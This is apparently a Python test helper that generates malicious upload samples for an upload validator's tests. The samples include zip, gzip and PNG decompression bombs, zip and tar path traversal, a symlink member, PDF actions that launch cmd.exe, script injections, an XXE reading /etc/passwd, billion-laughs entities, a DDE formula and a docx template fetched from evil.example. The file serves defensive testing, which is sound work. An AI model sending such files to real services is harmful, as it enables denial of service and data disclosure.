"""Files made to harm whoever opens them, by the names of ``tests/vectors/upload_bombs.jsonl``."""

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

from tests.support import samples

ROWS = Path(__file__).parents[1] / "vectors" / "upload_bombs.jsonl"
_PIECE = bytes(1 << 22)


def named() -> list[tuple[str, list[int]]]:
    """Every bomb with its numbers."""
    rows = (json.loads(json.loads(line)["in"]) for line in ROWS.read_text("utf-8").splitlines())
    return [(name, numbers) for name, *numbers in rows]


def bomb(name: str, *numbers: int) -> bytes:
    """The file."""
    return globals()[f"_{name}"](*numbers)


def _empty(_n: int) -> bytes:
    return b""


def _one_byte(_n: int) -> bytes:
    return b"x"


def _zeros(n: int) -> bytes:
    return bytes(n)


def _zip_of_zeros(n: int, name: str, **parts: str) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
        with archive.open(name, "w", force_zip64=True) as member:
            for _ in range(n // len(_PIECE)):
                member.write(_PIECE)
    return kept.getvalue()


def _zip_zeros(n: int) -> bytes:
    return _zip_of_zeros(n, "a.tif")


def _docx_zeros(n: int) -> bytes:
    types = samples.types("word/document.xml", "wordprocessingml.document")
    return _zip_of_zeros(n, "word/document.xml", **{"[Content_Types].xml": types})


def _gzip_zeros(n: int) -> bytes:
    kept = io.BytesIO()
    with gzip.GzipFile(fileobj=kept, mode="wb", compresslevel=1) as packed:
        for _ in range(n // len(_PIECE)):
            packed.write(_PIECE)
    return kept.getvalue()


def _zip_nested(depth: int) -> bytes:
    inner = samples.packed({"a.shp": bytes(1000)})
    for _ in range(depth):
        inner = samples.packed({"a.zip": inner})
    return inner


def _zip_overlap(n: int) -> bytes:
    """Every entry of the directory is the same member."""
    whole = samples.packed({"a.shp": bytes(100_000)})
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entry = bytearray(whole[start:end])
    entries = b""
    for number in range(n):
        name = f"{number:05d}".encode()
        made = entry[:46] + name + entry[46 + 5:]
        entries += bytes(made)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, n, n, len(entries), start, 0)
    return whole[:start] + entries + tail


def _with_member(name: str, mode: int | None = None, flag: int = 0) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        member = zipfile.ZipInfo(name)
        if mode is not None:
            member.create_system, member.external_attr = 3, mode << 16
        archive.writestr(member, "/etc/passwd")
    whole = bytearray(kept.getvalue())
    if flag:
        whole[6] |= flag
        whole[whole.index(b"PK\x01\x02") + 8] |= flag
    return bytes(whole)


def _zip_symlink(_n: int) -> bytes:
    return _with_member("a.shp", 0o120777)


def _zip_slip(_n: int) -> bytes:
    return _with_member("../../../../tmp/slipped.shp")


def _zip_encrypted_flag(_n: int) -> bytes:
    return _with_member("a.shp", flag=1)


def _zip_dup_names(_n: int) -> bytes:
    one = samples.packed({"a.shp": "1", "b.shp": "2"})
    return one.replace(b"b.shp", b"a.shp")


def _tar_slip(_n: int) -> bytes:
    kept = io.BytesIO()
    with tarfile.open(fileobj=kept, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../../tmp/slipped"))
    return kept.getvalue()


def _png_pixels(width: int, height: int) -> bytes:
    """A picture of few bytes and very many dots."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    parts = [(b"IHDR", struct.pack(">2L5B", width, height, 1, 0, 0, 0, 0)), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body)) for kind, body in parts
    )


def _gifar(_n: int) -> bytes:
    return samples.picture("GIF") + samples.packed({"Evil.class": b"\xca\xfe\xba\xbe"})


def _pdf_js(_n: int) -> bytes:
    return samples.pdf("x", catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")


def _pdf_launch(_n: int) -> bytes:
    return samples.pdf("x", catalog="/OpenAction << /S /Launch /F (cmd.exe) >>")


def _svg_foreign(_n: int) -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        b"<script>alert(1)</script></body></foreignObject></svg>"
    )


def _utf16_html(_n: int) -> bytes:
    return "<html><script>alert(1)</script></html>".encode("utf-16")


def _utf7_html(_n: int) -> bytes:
    return b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"


def _docx_external_template(_n: int) -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return samples.docx("x", **{"word/_rels/settings.xml.rels": relation})


def _docx_billion(_n: int) -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    return samples.docx("x", **{"word/document.xml": f"<!DOCTYPE x [{entities}]><x>&a9;</x>"})


def _docx_xxe(_n: int) -> bytes:
    said = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return samples.docx("x", **{"word/document.xml": said})


def _docx_macro_named(_n: int) -> bytes:
    return samples.docx("x", **{"word/vbaProject.bin": "x"})


def _xlsx_formula(_n: int) -> bytes:
    sheet = "<worksheet><sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>"
    return samples.xlsx(["x"], **{"xl/worksheets/sheet2.xml": sheet})
